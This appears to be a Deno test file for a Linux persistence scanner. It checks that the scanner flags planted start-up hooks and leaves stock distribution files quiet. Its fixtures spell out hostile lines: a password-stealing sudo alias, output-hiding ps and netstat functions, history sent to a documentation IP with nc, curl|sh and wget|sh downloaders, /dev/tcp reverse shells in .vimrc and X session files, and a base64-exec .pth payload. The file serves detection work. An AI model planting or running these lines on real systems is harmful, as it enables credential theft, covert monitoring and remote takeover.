/**
 * Shell and tools: aliases and functions that shadow sensitive commands, shell hooks that record what is typed,
 * git command keys and hooks, and Python start-up code fire; the stock definitions of Debian, Ubuntu and RHEL
 * (colour aliases, `sudo='sudo '`, history settings, setuptools' and namespace packages' .pth lines) stay quiet.
 */
import assert from "node:assert/strict";
import { persistence } from "../../src/scanners/persistence/index.ts";
import { makeTree, runOne } from "../helpers.ts";
import { dpkgOwns, summary, withAccounts } from "./persistence_fixtures.ts";

const EXEC = 0o755;

Deno.test("persistence shell: aliases and functions that steal passwords or hide output fire", async () => {
  using root = makeTree(withAccounts({
    "home/bob/.bashrc": [
      "# ~/.bashrc",
      "alias ll='ls -alF'",
      `alias sudo='read -sp "[sudo] password for $USER: " pw; echo "$pw" >> ~/.cache/.s; echo; command sudo'`,
      'if [ -n "$PS1" ]; then',
      "  ps() { command ps \"$@\" | grep -v -e kworkerd -e '[k]thread'; }",
      "fi",
    ].join("\n") + "\n",
    "home/alice/.bash_aliases": "alias su='/home/alice/.local/bin/.su'\n",
    "etc/profile.d/zz-net.sh": "function netstat {\n  /usr/bin/netstat \"$@\" | sed '/:4444/d'\n}\n",
    "etc/skel/.bashrc":
      "alias ssh='ssh -o LocalCommand=\"curl -s http://203.0.113.5/k?u=$USER\" -o PermitLocalCommand=yes'\n",
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(
    r.findings.filter((f) => f.check_id === "persistence.shell.shadowed_command")
      .map((f) =>
        `${f.metadata.path}:${f.metadata.line} ${f.metadata.definition} ${f.metadata.name}: ${
          (f.metadata.reasons as string[]).join("; ")
        }`
      )
      .sort(),
    [
      "/etc/profile.d/zz-net.sh:1 function netstat: filters its output (sed)",
      "/etc/skel/.bashrc:1 alias ssh: sends data (curl)",
      "/home/alice/.bash_aliases:1 alias su: never runs the real su",
      "/home/bob/.bashrc:3 alias sudo: prompts without echo (read -s); writes to ~/.cache/.s",
      "/home/bob/.bashrc:5 function ps: filters its output (grep -v -e kworkerd)",
    ],
  );
  assert.ok(
    r.findings.every((f) => f.check_id !== "persistence.shell.shadowed_command" || f.severity === "high"),
  );
  assert.match(
    r.findings.find((f) => f.metadata.name === "sudo")!.id,
    /^persistence\.shell\.shadowed_command:\/home\/bob\/\.bashrc:[0-9a-f]{12}$/,
  );
});

Deno.test("persistence shell: stock and harmless definitions stay quiet", async () => {
  using root = makeTree(withAccounts({
    "home/bob/.bashrc": [
      "if [ -x /usr/bin/dircolors ]; then",
      "    alias ls='ls --color=auto'",
      "    alias grep='grep --color=auto'",
      "fi",
      "alias sudo='sudo '",
      "alias ssh='TERM=xterm-256color ssh'",
      "alias ls='exa --icons'",
      'cd() { builtin cd "$@" && echo "$PWD" > ~/.last_dir; }',
      'passwd() { command passwd "$@"; }',
      "cat <<'EOF' > /dev/null",
      "alias sudo='/tmp/s'",
      "EOF",
      "# alias su='/tmp/su'",
      "echo 'alias passwd=/tmp/p'",
    ].join("\n") + "\n",
    "etc/profile.d/colorls.sh":
      "alias ll='ls -l --color=auto' 2>/dev/null\nalias ls='ls --color=auto' 2>/dev/null\n",
    "etc/profile.d/which2.sh":
      "alias which='(alias; declare -f) | /usr/bin/which --tty-only --read-alias --read-functions --show-tilde --show-dot'\n",
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.deepEqual(summary(r.findings), []);
  const inv = await runOne(persistence, root.path, { persistenceRecentDays: 0, persistenceInventory: true });
  const defs = inv.findings.find((f) =>
    f.metadata.kind === "shell_definition" && f.metadata.path === "/home/bob/.bashrc"
  );
  assert.deepEqual(defs?.metadata.definitions, [
    "alias ls (line 2)",
    "alias sudo (line 5)",
    "alias ssh (line 6)",
    "alias ls (line 7)",
    "function cd (line 8)",
    "function passwd (line 9)",
  ]);
});

Deno.test("persistence shell: PROMPT_COMMAND, DEBUG traps and zsh hooks that send the command line away fire", async () => {
  using root = makeTree(withAccounts({
    "etc/bash.bashrc":
      "export PROMPT_COMMAND='history -a; echo \"$(history 1)\" | nc -q0 203.0.113.5 9000'\n",
    "home/bob/.bashrc": "trap -- 'echo \"$BASH_COMMAND\" >> /dev/shm/.k' DEBUG\n",
    "home/alice/.zshrc": 'preexec() { print -r -- "$1" >>| /var/tmp/.z 2>/dev/null; }\n',
    "home/alice/.bashrc": "PROMPT_COMMAND+=('history 1 >> ~/.bash_eternal_history')\n" +
      "PROMPT_COMMAND='logger -p local6.debug \"$(history 1)\"'\ntrap 'rm -f /tmp/lock.$$' EXIT\n",
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.deepEqual(
    r.findings.filter((f) => f.check_id === "persistence.shell.command_capture")
      .map((f) => `${f.metadata.path} ${f.metadata.hook} ${(f.metadata.reasons as string[]).join("; ")}`)
      .sort(),
    [
      "/etc/bash.bashrc prompt_command sends it (nc)",
      "/home/alice/.zshrc zsh_hook writes it to /var/tmp/.z",
      "/home/bob/.bashrc trap writes it to /dev/shm/.k",
    ],
  );
  const inv = await runOne(persistence, root.path, { persistenceRecentDays: 0, persistenceInventory: true });
  const hooks = inv.findings.find((f) =>
    f.metadata.kind === "shell_hook" && f.metadata.path === "/home/alice/.bashrc"
  );
  assert.equal(
    (hooks?.metadata.hooks as string[]).length,
    3,
    "audit logging and cleanup traps are inventoried",
  );
});

Deno.test("persistence git: command keys, hooks and hooksPath are judged as the account that runs git", async () => {
  using root = makeTree(withAccounts({
    "etc/gitconfig": "[core]\n\tpager = less -R\n[credential]\n\thelper = store\n",
    "home/bob/.gitconfig": "[core]\n\tfsmonitor = /dev/shm/.fsm\n[include]\n\tpath = ~/.config/git/extra\n",
    "home/bob/.config/git/extra":
      '[alias]\n\tup = "!f() { curl -s http://203.0.113.5/g | sh; }; f"\n\tco = checkout\n',
    "home/bob/src/app/.git/config":
      "[core]\n\trepositoryformatversion = 0\n\tsshCommand = ssh -i ~/.ssh/deploy\n" +
      '[filter "lfs"]\n\tsmudge = git-lfs smudge -- %f\n',
    "home/bob/src/app/.git/hooks/post-checkout": { content: "#!/bin/sh\n/tmp/.h/run &\n", mode: EXEC },
    "home/bob/src/app/.git/hooks/pre-commit.sample": { content: "#!/bin/sh\n/tmp/sample\n", mode: EXEC },
    "home/alice/.gitconfig": "[core]\n\thooksPath = /var/tmp/hooks\n",
    "var/tmp/hooks/pre-push": { content: "#!/bin/sh\nexit 0\n", mode: 0o777 },
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.deepEqual(summary(r.findings), [
    "high persistence.command.download_exec /home/bob/.config/git/extra",
    "high persistence.command.untrusted_path /home/bob/.gitconfig",
    "high persistence.command.untrusted_path /home/bob/src/app/.git/hooks/post-checkout",
    "high persistence.command.untrusted_path /var/tmp/hooks/pre-push",
  ]);
  const hook = r.findings.find((f) => f.metadata.path === "/var/tmp/hooks/pre-push")!;
  assert.equal(hook.metadata.run_as, "alice");
  assert.deepEqual(r.warnings, []);
});

Deno.test("persistence git: malformed configuration is a warning; quoting and continuations are read like git", async () => {
  using root = makeTree(withAccounts({
    "home/bob/.gitconfig":
      '[core\n\tpager = x\n[core]\n\tpager = "sh -c \\"wget -qO- http://203.0.113.5/p \\\n| sh\\""\n' +
      "= orphan\n\u0000\u00ff\n",
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.deepEqual(summary(r.findings), ["high persistence.command.download_exec /home/bob/.gitconfig"]);
  assert.equal(r.findings[0].metadata.command, 'sh -c "wget -qO- http://203.0.113.5/p | sh"');
  assert.deepEqual(r.warnings.map((w) => w.code), ["gitconfig_malformed"]);
});

Deno.test("persistence python: .pth lines and sitecustomize that run commands, decode or connect fire", async () => {
  const evil = "import os, base64; exec(base64.b64decode('aW1wb3J0IG9z'))\n";
  using root = makeTree(withAccounts({
    "usr/lib/python3/dist-packages/distutils-precedence.pth":
      "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; " +
      "enabled and __import__('_distutils_hack').add_shim(); \n",
    "usr/lib/python3/dist-packages/zz-telemetry.pth":
      "import sys, urllib.request as u; u.urlopen('http://203.0.113.5/t')\n",
    "usr/local/lib/python3.11/dist-packages/aa.pth": evil,
    "usr/lib/python3.11/sitecustomize.py": "import subprocess\nsubprocess.Popen(['/usr/bin/true'])\n",
    "home/bob/.local/lib/python3.11/site-packages/usercustomize.py": "# hi\nimport socket\n",
    "home/bob/.local/lib/python3.11/site-packages/paths.pth": "/opt/lib\n# import os; os.system('x')\n",
    ...dpkgOwns("python3-setuptools", ["/usr/lib/python3/dist-packages/distutils-precedence.pth"]),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.deepEqual(summary(r.findings), [
    "high persistence.command.encoded_payload /usr/local/lib/python3.11/dist-packages/aa.pth",
    "high persistence.python.startup_code /home/bob/.local/lib/python3.11/site-packages/usercustomize.py",
    "high persistence.python.startup_code /usr/lib/python3.11/sitecustomize.py",
    "high persistence.python.startup_code /usr/lib/python3/dist-packages/zz-telemetry.pth",
    "medium persistence.hook.unpackaged /usr/lib/python3.11/sitecustomize.py",
    "medium persistence.hook.unpackaged /usr/lib/python3/dist-packages/zz-telemetry.pth",
  ]);
  const t = r.findings.find((f) =>
    f.metadata.path === "/usr/lib/python3/dist-packages/zz-telemetry.pth" && f.check_id.includes("python")
  )!;
  assert.deepEqual([t.metadata.line, t.metadata.indicators], [1, ["network"]]);
});

Deno.test("persistence shell: fish and the X session files are start-up files too", async () => {
  const rev = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1 &";
  using root = makeTree(withAccounts({
    "home/bob/.xsessionrc": `${rev}\n`,
    "home/bob/.config/fish/conf.d/sync.fish": "curl -fsSL http://203.0.113.5/f | sh\n",
    "etc/X11/Xsession.d/99x11-sync": `${rev}\n`,
    "etc/fish/config.fish": "if status is-interactive\nend\n",
    "etc/X11/Xsession.d/20x11-common_process-args":
      'OPTIONFILE=/etc/X11/Xsession.options\n[ -r "$OPTIONFILE" ]\n',
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.deepEqual(summary(r.findings), [
    "critical persistence.command.reverse_shell /etc/X11/Xsession.d/99x11-sync",
    "critical persistence.command.reverse_shell /home/bob/.xsessionrc",
    "high persistence.command.download_exec /home/bob/.config/fish/conf.d/sync.fish",
  ]);
});

Deno.test("persistence tools: vimrc, tmux and screen start-up files that run payloads fire; stock ones stay quiet", async () => {
  using root = makeTree(withAccounts({
    "home/bob/.vimrc":
      '" my settings\nset number\nautocmd VimEnter * silent !bash -i >& /dev/tcp/203.0.113.5/4444 0>&1 &\n',
    "home/bob/.tmux.conf": 'set -g mouse on\nrun-shell "curl -fsSL http://203.0.113.5/t | sh"\n',
    // Debian's vimrc as shipped (comments with payload-like words, runtime, source) and a plain screenrc.
    "etc/vim/vimrc": '" bash -i >& /dev/tcp/ is only a comment here\nruntime! debian.vim\n' +
      'if filereadable("/etc/vim/vimrc.local")\n  source /etc/vim/vimrc.local\nendif\n',
    "etc/screenrc": "startup_message off\ndefscrollback 1024\n",
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.deepEqual(summary(r.findings), [
    "critical persistence.command.reverse_shell /home/bob/.vimrc",
    "high persistence.command.download_exec /home/bob/.tmux.conf",
  ]);
});

Deno.test("persistence tools: an inputrc macro and a lesskey LESSOPEN that run commands fire; Debian's inputrc stays quiet", async () => {
  using root = makeTree(withAccounts({
    "home/bob/.inputrc":
      '$include /etc/inputrc\n"\\C-m": "\\C-e; curl -fsSL http://203.0.113.5/k | sh >/dev/null 2>&1\\C-j"\n',
    "home/alice/.config/lesskey": "#command\nq quit\n#env\nLESSOPEN=|/var/tmp/.lp %s\n",
    "etc/syslesskey": "#env\nLESS=-R\n",
    // Debian 12's /etc/inputrc (readline-common 8.2-1.3 installs /usr/share/readline/inputrc there).
    "etc/inputrc":
      "# /etc/inputrc - global inputrc for libreadline\nset input-meta on\nset output-meta on\n" +
      '$if mode=emacs\n"\\e[1~": beginning-of-line\n"\\e[4~": end-of-line\n"\\e[3~": delete-char\n' +
      '"\\e[1;5C": forward-word\n"\\e\\e[D": backward-word\n$if term=rxvt\n"\\e[7~": beginning-of-line\n' +
      '"\\eOd": backward-word\n$endif\n$endif\n',
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.deepEqual(summary(r.findings), [
    "high persistence.command.download_exec /home/bob/.inputrc",
    "high persistence.command.untrusted_path /home/alice/.config/lesskey",
  ]);
  assert.deepEqual(r.warnings, []);
});
